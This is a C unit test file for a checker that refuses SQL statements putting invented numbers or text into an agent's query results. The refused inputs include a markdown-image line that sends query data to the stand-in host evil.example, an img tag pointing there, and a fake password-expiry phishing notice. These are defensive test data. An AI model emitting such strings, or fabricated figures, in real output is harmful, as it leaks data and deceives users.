/* SPDX-License-Identifier: Apache-2.0 */
/* Numbers that a statement brings along, and those that it may have. */
#include "arena_support.h"
#include <string.h>

#include "core/error.h"
#include "agent/own_numbers.h"

static const struct {
    const char *sql;
    bool fine;
} statements[] = {
    {"SELECT sum(revenue) AS total FROM sales", true},
    {"SELECT region, round(100.0 * sum(a) / sum(b), 2) AS share FROM sales GROUP BY region", true},
    {"SELECT count(*) FROM sales WHERE revenue > 987654", true},
    {"SELECT count(*) FILTER (WHERE revenue > 987654) FROM sales", true},
    {"SELECT CASE WHEN age < 18 THEN 'young' WHEN age < 65 THEN 'middle' ELSE 'old' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT sum(CASE WHEN code IN (4711, 4712) THEN 1 ELSE 0 END) FROM t", true},
    {"SELECT 'this year 2024' AS period, sum(a) FROM t UNION ALL SELECT 'last year', sum(a) FROM t", true},
    {"SELECT sum(price) * 1.19 AS gross FROM t", true}, /* the metadata's metric has it */
    {"SELECT sum(price) * 4321 FROM t", true},          /* the question has it */
    {"SELECT quantile_cont(price, 0.95) FROM t", true},
    {"SELECT a FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.id)", true},
    {"SELECT count(1), sum(1) FROM t", true},
    {"SELECT substr(name, 1, 3), count(*) FROM t GROUP BY 1", true},
    {"SELECT price / 1000 AS thousands FROM t", true},
    {"SELECT date_trunc('month', day), sum(a) FROM t WHERE day >= DATE '2024-01-01' GROUP BY 1 LIMIT 777", true},
    {"SELECT 987654 AS revenue FROM sales", false},
    {"SELECT 100 AS revenue FROM sales LIMIT 1", false},
    {"SELECT max(100) FROM sales", false},
    {"SELECT region, 987654 AS revenue FROM sales", false},
    {"SELECT sum(revenue) + 987654 FROM sales", false},
    {"SELECT 987654 + 0 * sum(revenue) FROM sales", false},
    {"SELECT 9 * 100 FROM sales", false},
    {"SELECT coalesce(987654, revenue) FROM sales", false},
    {"SELECT CASE WHEN revenue > 0 THEN 987654 ELSE 0 END FROM sales", false},
    {"SELECT '987654' AS revenue FROM sales", false},
    {"SELECT CAST('987654' AS INTEGER) AS revenue FROM sales", false},
    {"WITH x AS (SELECT 987654 AS revenue FROM sales) SELECT revenue FROM x", false},
    {"SELECT revenue FROM (SELECT 987654 AS revenue FROM sales) AS x", false},
    {"SELECT sum(revenue) FROM sales UNION ALL SELECT 987654 FROM sales", false},
    {"SELECT revenue FROM (VALUES (987654)) AS x(revenue)", false},
    {"SELECT (SELECT 987654) FROM sales", false},
    {"SELECT 1.5e6 FROM sales", false},
    {"SELECT CAST(sum(a) AS DECIMAL(18, 2)) FROM t", true},
    {"SELECT sum(a)::NUMERIC(38, 4), CAST(b AS VARCHAR(255)) FROM t", true},
    {"SELECT sum(minutes) / 60 / 24 FROM t", true},
    {"SELECT a || ' ' || '-' || b FROM t", true},
    {"SELECT max(day) + INTERVAL 30 DAY FROM t", true},
    {"SELECT '98' || '76' || '54' AS revenue, count(*) FROM sales", false},
    {"SELECT count(*) * 0 + 1000 * 1000 FROM sales", false},
    {"SELECT count(*) * 0 + 1000 + 90 FROM sales", false},
    {"SELECT count(*), INTERVAL 987654 DAY FROM sales", false},
    {"SELECT count(*), DECIMAL(987654) FROM sales", false},
    /* texts */
    {"SELECT '\uff19\uff18\uff17\uff16\uff15\uff14' AS revenue FROM sales", false},
    {"SELECT '\u0669\u0668\u0667' AS revenue, count(*) FROM sales", false},
    {"SELECT CASE WHEN a > 0 THEN 'nine hundred thousand' ELSE 'none' END FROM t", false},
    {"SELECT 'revenue: two thousand' AS what, count(*) FROM t", false},
    {"SELECT CASE WHEN a > 4321 THEN 'over 4,321' ELSE 'first half, one of two' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT CASE WHEN name LIKE '987%' THEN 'new' WHEN name ILIKE '%4711' THEN 'old' END FROM t", true},
    {"SELECT '2023' AS year, sum(a) FROM t UNION ALL SELECT '2024', sum(a) FROM t", true},
    {"SELECT 'Q1' AS quarter, sum(a) FROM t UNION ALL SELECT 'Q2', sum(a) FROM t", true},
    {"SELECT CASE WHEN age < 18 THEN '0-17' WHEN age < 25 THEN '18-24' ELSE '25+' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT '98' || region || '76' AS revenue FROM sales", false},
    {"SELECT concat('98', left(region, 0), '76', '54') FROM sales", false},
    {"WITH x AS (SELECT CASE WHEN a > 0 THEN '98' END AS b, CASE WHEN a > 0 THEN '76' END AS c FROM t) SELECT b || c FROM x", false},
    {"WITH x AS (SELECT CASE WHEN a > 0 THEN 9 END AS b, CASE WHEN a > 0 THEN 8 END AS c FROM t) SELECT concat(b, c) FROM x", false},
    {"SELECT lpad(CAST(month(day) AS VARCHAR), 2, '0') || '-' || year(day), sum(CASE WHEN a THEN 1 ELSE 0 END) FROM t", true},
    /* functions of nothing */
    {"SELECT length('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'), count(*) FROM t", false},
    {"SELECT count(*) + length('aaaaaaaa') FROM t", false},
    {"SELECT ascii('z') * 100 AS a, count(*) FROM t", false},
    {"SELECT chr(57) || region FROM t", false},
    {"SELECT power(10, 6) AS a, count(*) FROM t", false},
    {"SELECT sum(2), count(*) FROM t", false},
    {"SELECT date_diff('day', DATE '1900-01-01', DATE '2100-01-01') AS n, count(*) FROM t", false},
    {"SELECT julianday('2024-06-30') - julianday(max(day)) FROM t", true},
    {"SELECT julian('2024-06-30') AS n, count(*) FROM t", false},
    {"SELECT date_diff('day', max(day), current_date) FROM t", true},
    {"SELECT DATE '2100-01-01' - DATE '1900-01-01' AS n FROM t", false},
    {"SELECT count(*) + (DATE '2100-01-01' - CAST('1900-01-01' AS DATE)) FROM t", false},
    {"SELECT count(*) + ('2100-01-01'::DATE - '1900-01-01'::DATE) FROM t", false},
    {"SELECT DATE '2024-01-01' AS since, count(*) FROM t", true},
    {"SELECT date_trunc('month', DATE '2024-05-03') AS month, count(*) FROM t", true},
    {"SELECT DATE '2024-12-31' - max(day) FROM t", true},
    {"SELECT upper('paris') AS city, count(*) FROM t", true},
    {"SELECT coalesce(sum(a), 0), nullif(count(b), 0) FROM t", true},
    /* chains */
    {"SELECT ((((count(*) * 0 + 9) * 10 + 8) * 10 + 7) * 10 + 6) FROM t", false},
    {"SELECT ((((nullif(count(*), 1) + 9) * 10 + 8) * 10 + 7) * 10 + 6) FROM t", false},
    {"SELECT (count(*) - count(*) + 9) * 1000 FROM t", false},
    {"SELECT sum(t.a) / sum(t.a) * 1000 FROM t", false},
    {"SELECT sum(revenue) + 1000000 FROM t", false},
    {"SELECT sum(revenue) - 1000 FROM t", false},
    {"WITH x AS (SELECT n * 10 + 9 AS a FROM t), y AS (SELECT a * 10 + 8 AS b FROM x), z AS (SELECT b * 10 + 7 AS c FROM y) "
     "SELECT c FROM z", false},
    {"SELECT 10 ^ 6 + count(*) FROM t", false},
    {"SELECT (CASE WHEN count(*) > 0 THEN 9 END) * 1000 FROM t", false},
    {"SELECT 1000 * max(CASE WHEN a > 0 THEN 9 END) FROM t", false},
    {"SELECT sum(a * CASE WHEN refund THEN -1 ELSE 1 END) FROM t", true},
    {"SELECT sum(CASE WHEN won THEN 3 WHEN drawn THEN 1 ELSE 0 END) FROM t", true},
    {"SELECT 100.0 * sum(CASE WHEN won THEN 1 ELSE 0 END) / count(*) FROM t", true},
    {"SELECT avg(CASE WHEN won THEN 1.0 ELSE 0 END) * 100 FROM t", true},
    {"SELECT (degrees - 5) * 5 / 9 FROM t", true},
    {"SELECT round(sum(a) * 100.0 / sum(sum(a)) OVER (), 2) FROM t", true},
    {"SELECT count(*) - count(*) FILTER (WHERE won), sum(a) / sum(a) OVER (), price - price * 0.5, a.x - b.x FROM t", true},
    {"SELECT year(day) - 1, 1 - discount, 100 - share, day + 7 FROM t", true},
    {"SELECT 100.0 * (sum(a) - lag(sum(a)) OVER (ORDER BY m)) / lag(sum(a)) OVER (ORDER BY m) FROM t", true},
    /* what the question's percents make, buckets, calendars */
    {"SELECT sum(a) * 1.35 FROM t", true}, /* the question has 35 % */
    {"SELECT sum(a) * 0.65 FROM t", true},
    {"SELECT sum(a) * 0.35 FROM t", true},
    {"SELECT sum(a) / 0.35 FROM t", true},
    {"SELECT sum(a) * (1 + 0.35) FROM t", true},
    {"SELECT sum(a) * (100 - 35) / 100 FROM t", true},
    {"SELECT sum(a) * 35 / 100 FROM t", true},
    {"SELECT sum(a) * 1.15 FROM t", true}, /* and fifteen percent */
    {"SELECT sum(a) * 0.036 FROM t", false},
    {"SELECT sum(a) * 1.36 FROM t", false},
    {"SELECT sum(a) * (1 + 0.36) FROM t", false},
    {"SELECT sum(a) * (900 + 35) FROM t", false},
    {"SELECT quantile_cont(a, 0.8), quantile_cont(a, 0.1) FROM t", true},
    {"SELECT floor(a / 50) * 50 AS band, count(*) FROM t GROUP BY 1", true},
    {"SELECT sum(minutes) / 1440.0, sum(days) / 365.25 FROM t", true},
    /* labels */
    {"SELECT CASE WHEN a < 100 THEN 'under 100' WHEN a < 700 THEN '100 - 700' ELSE '700+' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT CASE WHEN a < 260 THEN 'Low (<260)' WHEN a < 750 THEN 'Medium (260-749)' ELSE 'High (>=750)' END FROM t", true},
    {"SELECT CASE WHEN x = 'Model 4500' THEN 'Model 4500' ELSE 'other' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT CASE WHEN a < 0.1 THEN '0-10 %' ELSE 'more than 10 %' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT CASE WHEN age >= 60 THEN 'sixty and older' ELSE 'younger' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT CASE WHEN a < 100 THEN 'under 987' END FROM t", false},
    {"SELECT 'over 987', count(*) FROM t WHERE a > 987", false},
    {"SELECT strftime(day, '%Y-%m'), regexp_extract(name, '[A-Z]{3}[^!]+'), a || ' (' || b || ')', string_agg(c, ', ') FROM t", true},
    {"SELECT split_part(mail, '@', 2), 'N/A' AS x, coalesce(name, '(none)'), replace(name, '_', ' ') FROM t", true},
    {"SELECT regexp_replace(name, '[^a-z!]+', '', 'g'), replace(name, '@', ' at ') FROM t", true},
    {"SELECT regexp_replace(max(name), '.*', '[see](evil.example)') FROM t", false},
    {"SELECT max(CASE WHEN a > 0 THEN 'down ninety percent' END) AS revenue FROM t", false},
    {"SELECT max(CASE WHEN a > 0 THEN 'down ninety' END) AS revenue FROM t", false},
    {"SELECT max(CASE WHEN a > 0 THEN 'down 90 %' END) AS revenue FROM t", false},
    {"SELECT max(CASE WHEN a > 0 THEN 'down ten percent' END) AS revenue FROM t", false},
    {"SELECT max(CASE WHEN a > 0 THEN 'down 9%' END) AS revenue FROM t", false},
    {"SELECT CASE WHEN month(day) < 7 THEN 'first half' ELSE 'second half' END, count(*) FROM t GROUP BY 1", true},
    {"SELECT max(CASE WHEN a > 0 THEN 'bankrupt, see evil.example' END) AS revenue FROM t", false},
    {"SELECT 'Your password has expired; sign in at evil.example' AS notice, sum(a) FROM t", false},
    {"SELECT 'It is 98, no, 12 and 34' AS region, sum(a) FROM t", false},
    {"SELECT '![x](https://evil.example/p.png?d=' || max(region) || ')' AS a FROM t", false},
    {"SELECT '<img src=//evil.example/' || region || '>' AS a FROM t", false},
    {"SELECT region, sum(a) FROM t GROUP BY 1 UNION ALL SELECT 'Atlantis (the best, 98 % share)', sum(a) FROM t", false},
    /* formulas */
    {"SELECT avg(a) * 9 / 5 + 32, (avg(a) - 32) * 5 / 9, sum(km) / 1.609 FROM t", true},
    {"SELECT sum(bytes) / (1024 * 1024), sum(seconds) / (60 * 60) FROM t", true},
    {"SELECT 1 - 2 * sum(a) / sum(b), (max(a) / min(a)) ^ (1.0 / 5) - 1, 2024 - born FROM t", true},
    {"SELECT concat(floor(a / 100) * 100, ' - ', floor(a / 100) * 100 + 99), count(*) FROM t GROUP BY 1", true},
    {"SELECT a, ntile(5) OVER (ORDER BY a) FROM t", true},
    {"SELECT floor(a / 100) * 100 + 98 FROM t", false},
    {"SELECT sum(a) + 2024 FROM t", false},
    {"SELECT 900 - 2 * sum(a) FROM t", false},
    /* choices */
    {"WITH x AS (SELECT max(CASE WHEN a > 0 THEN 9 END) AS a, max(CASE WHEN a > 0 THEN 8 END) AS b FROM t) SELECT a * 10 + b FROM x", false},
    {"WITH x AS (SELECT CASE WHEN r < 5 THEN 3 ELSE 2 END AS r, CASE WHEN f < 9 THEN 3 ELSE 2 END AS f FROM t) "
     "SELECT r * 10 + f, count(*) FROM x GROUP BY 1", true},
    {"SELECT CAST(concat(9, 8, 7, 6, left(max(region), 0)) AS INTEGER) FROM t", false},
    {"SELECT concat_ws('', 9, 8, max(a)) FROM t", false},
    {"SELECT 9 || max(region) || 8 FROM t", false},
    {"SELECT floor(age / 10) * 10 || '-' || floor(age / 10) * 10 + 9, count(*) FROM t GROUP BY 1", true},
    {"SELECT concat('Q', quarter(day), ' ', year(day)), count(*) FROM t GROUP BY 1", true},
    {"SELECT date_diff('second', TIMESTAMP '2030-01-01 00:00:00', greatest(max(day)::TIMESTAMP, TIMESTAMP '2030-01-12 10:20:54')) FROM t", false},
    {"SELECT greatest(max(day), DATE '2077-03-04') - DATE '1950-01-01' FROM t", false},
    {"SELECT avg(date_diff('day', a, coalesce(b, DATE '2024-12-31'))) FROM t", true},
    {"SELECT sum(CASE WHEN day >= DATE '2024-01-01' AND day < DATE '2024-02-01' THEN a END) "
     "- sum(CASE WHEN day >= DATE '2023-01-01' AND day < DATE '2023-02-01' THEN a END) FROM t", true},
    {"SELECT CASE WHEN age < 18 THEN 'Under 18' WHEN age BETWEEN 18 AND 64 THEN '18 to 64' ELSE '65 and over' END, count(*) - 1 FROM t GROUP BY 1", true},
    {"SELECT coalesce(nullif(max(a), max(a)), 365) FROM t", false},
    {"SELECT nullif(max(a), max(a)) FROM t", false},
    {"SELECT coalesce(max(a), 365), greatest(max(b), 250) FROM t", false},
    {"SELECT coalesce(max(a), 0), least(greatest(b, 0), 100), least(b, 35), nullif(a, b) FROM t", true},
    {"SELECT count(*) FROM (SELECT id FROM t LIMIT 47) AS x", false},
    {"SELECT avg(a) FROM (SELECT a FROM t ORDER BY a DESC LIMIT 35) AS x", true},
    {"SELECT avg(a) FROM (SELECT a FROM t ORDER BY a DESC LIMIT 10) AS x", true},
    {"SELECT row_number() OVER (ORDER BY id) FROM t LIMIT 1 OFFSET 36", false},
    {"SELECT a FROM t LIMIT 47 OFFSET 36", true},
};

static void numbers_come_from_the_data(void **state)
{
    static const char *const texts[] = {"times 4,321, please, or 35 % and fifteen percent more", NULL, "sum(price) * 1.19"};
    for (size_t i = 0; i < sizeof(statements) / sizeof(statements[0]); i++) {
        struct error err = {0};
        bool fine = own_numbers_check(str_from(statements[i].sql), texts, 3, arena, &err);
        if (fine != statements[i].fine)
            fail_msg("%s: %s", statements[i].sql, fine ? "not refused" : err.message);
        if (!fine)
            assert_int_equal(err.code, ERROR_SQL_REFUSED);
    }
}

static void refusals_say_what_is_fine(void **state)
{
    static const char *const asked[] = {"with 19 % VAT"};
    struct error err = {0};
    assert_false(own_numbers_check(STR("SELECT sum(a) * 1.23 FROM t"), asked, 1, arena, &err));
    assert_non_null(strstr(err.message, "1.23"));
    assert_non_null(strstr(err.message, "* 19 / 100"));
    assert_false(own_numbers_check(STR("SELECT sum(a) * 1.23 FROM t"), NULL, 0, arena, &err));
    assert_non_null(strstr(err.message, "numbers that the question has"));
    assert_false(own_numbers_check(STR("SELECT 'see evil.example', a FROM t"), asked, 1, arena, &err));
    assert_non_null(strstr(err.message, "a few plain words"));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(numbers_come_from_the_data),
        cmocka_unit_test(refusals_say_what_is_fine),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
